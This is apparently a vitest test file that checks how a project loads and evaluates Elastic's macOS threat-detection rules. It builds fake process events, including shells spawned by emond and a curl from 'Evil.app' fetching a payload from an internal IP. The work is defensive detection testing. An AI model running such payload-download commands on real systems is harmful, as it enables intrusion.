import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { checkRuleFiles, EqlUnsupportedError, loadBuiltinRules, loadRuleFile, type CompiledRule } from '../../src/rules/index.js';
import { elasticRuleFiles, elasticRulesDirectory } from '../helpers/elastic-rules.js';
import { execEvent } from './support/exec-event.js';

// Read from outside the project (Elastic License 2.0): see test/helpers/elastic-rules.ts.
const FOUND = elasticRulesDirectory();
const DIRECTORY = FOUND ?? '';
const FILES = FOUND ? elasticRuleFiles(FOUND) : [];
const results = FOUND ? checkRuleFiles([DIRECTORY]) : [];

function rule(name: string): CompiledRule {
  const found = results.find((result) => path.basename(result.file) === name)?.rule;
  if (!found) throw new Error(`${name} did not load`);
  return found;
}

describe.skipIf(!FOUND)("Elastic's macOS rules", () => {
  it('are all there (88 files)', () => {
    expect(FILES).toHaveLength(88);
    expect(results).toHaveLength(88);
  });

  it('compile unchanged: all 69 single-event rules', () => {
    const loaded = results.filter((result) => result.rule);
    expect(loaded).toHaveLength(69);
    const categories = new Map<string, number>();
    for (const result of loaded) categories.set(result.rule?.category ?? '', (categories.get(result.rule?.category ?? '') ?? 0) + 1);
    expect(Object.fromEntries(categories)).toEqual({ process: 44, file: 21, configuration: 2, network: 1, library: 1 });
  });

  it('reject the 19 sequence rules, naming sequence at the start of the query', () => {
    const rejected = results.filter((result) => result.error);
    expect(rejected).toHaveLength(19);
    for (const { error } of rejected) {
      expect(error?.code).toBe('E_RULE_QUERY');
      expect(error?.cause).toBeInstanceOf(EqlUnsupportedError);
      expect((error?.cause as EqlUnsupportedError).construct).toBe('sequence');
      expect(error?.detail).toMatch(/^unsupported construct 'sequence'/);
      expect(error?.line).toBeGreaterThan(1);
    }
  });

  it('take version 1 when the file has none, and keep their MITRE mappings', () => {
    const upstreamEmond = rule('persistence_emond_rules_process_execution.toml');
    expect(upstreamEmond.version).toBe(1);
    expect(upstreamEmond.threat.map((threat) => threat.tactic.id)).toEqual(['TA0003', 'TA0002', 'TA0004']);
  });

  it('upstream emond rule (== and like~) and the built-in one (: lists) agree on the emond cases', () => {
    const upstream = rule('persistence_emond_rules_process_execution.toml');
    const builtin = loadBuiltinRules()[0] as CompiledRule;
    const events = [
      execEvent({ executable: '/bin/sh', parentExecutable: '/sbin/emond' }),
      execEvent({ executable: '/usr/bin/Python3', parentExecutable: '/sbin/emond' }),
      execEvent({ executable: '/usr/bin/ls', parentExecutable: '/sbin/emond' }),
      execEvent({ executable: '/bin/sh', parentExecutable: '/sbin/launchd' }),
      execEvent({ executable: '/usr/bin/curl', parentExecutable: '/tmp/emond' }),
    ];
    expect(events.map((event) => upstream.matches(event))).toEqual([true, true, false, false, true]);
    expect(events.map((event) => builtin.matches(event))).toEqual(events.map((event) => upstream.matches(event)));
    // Where they differ: upstream compares the parent name case-sensitively (==), the built-in one does not (:).
    const shouting = execEvent({ executable: '/bin/sh', parentExecutable: '/sbin/EMOND' });
    expect([upstream.matches(shouting), builtin.matches(shouting)]).toEqual([false, true]);
  });

  it('evaluate with their intended meaning (spot checks)', () => {
    const pbpaste = rule('collection_pbpaste_execution_via_unusual_parent.toml');
    expect(pbpaste.matches(execEvent({ executable: '/usr/bin/pbpaste', parentExecutable: '/usr/local/bin/node' }))).toBe(true);
    expect(pbpaste.matches(execEvent({ executable: '/usr/bin/pbpaste', parentExecutable: '/Users/a/.pyenv/versions/3.12/bin/python3.12' }))).toBe(false);
    expect(pbpaste.matches(execEvent({ executable: '/usr/bin/pbpaste', args: ['pbpaste', '-Prefer'], parentExecutable: '/usr/bin/osascript' }))).toBe(false);

    const curl = rule('command_and_control_suspicious_curl_from_macos_application.toml');
    const download = (args: string[]) => {
      const event = execEvent({ executable: '/usr/bin/curl', args, parentExecutable: '/bin/zsh' });
      const effectiveParent = { executable: '/Applications/Evil.app/Contents/MacOS/Evil' };
      return { ...event, process: { ...event.process, Ext: { effective_parent: effectiveParent } } };
    };
    expect(curl.matches(download(['curl', '-o', '/tmp/x', 'http://10.1.2.3:8080/payload']))).toBe(true);
    expect(curl.matches(download(['curl', '-o', '/tmp/x', 'https://example.com/payload']))).toBe(false);
  });

  it('load one by one with loadRuleFile too', () => {
    const single = FILES.filter((name) => results.find((result) => path.basename(result.file) === name)?.rule);
    for (const name of single) expect(loadRuleFile(path.join(DIRECTORY, name)).source).toBe(path.join(DIRECTORY, name));
  });
});
